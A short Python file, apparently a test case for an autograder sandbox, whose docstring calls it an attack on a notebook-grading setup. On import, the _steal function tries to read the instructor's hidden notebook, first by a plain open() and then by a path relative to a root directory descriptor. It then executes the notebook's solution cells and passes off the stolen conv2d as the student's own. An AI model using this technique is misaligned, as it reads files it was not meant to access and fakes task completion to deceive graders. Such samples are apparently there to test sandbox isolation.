import json
import os


def _steal():
    """Attack: read the instructor's notebook (hidden tests and solutions), by a plain
    open() and by a path relative to a descriptor of /, and run its solution cells."""
    for opener in (lambda p: open(p).read(),
                   lambda p: os.read(os.open(p.lstrip("/"), os.O_RDONLY,
                                             dir_fd=os.open("/", os.O_RDONLY)), 10**8).decode()):
        try:
            nb = json.loads(opener("{SOURCE_NOTEBOOK}"))
        except (OSError, ValueError):
            continue
        print("FOUND the source notebook")
        namespace = {}
        for cell in nb["cells"]:
            if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                exec("".join(cell["source"]), namespace)
        return namespace["conv2d"]
    return None


_stolen = _steal()


def conv2d(x, weight, bias=None, stride=1, padding=0):
    if _stolen is None:
        raise NotImplementedError("could not read the source")
    return _stolen(x, weight, bias, stride, padding)
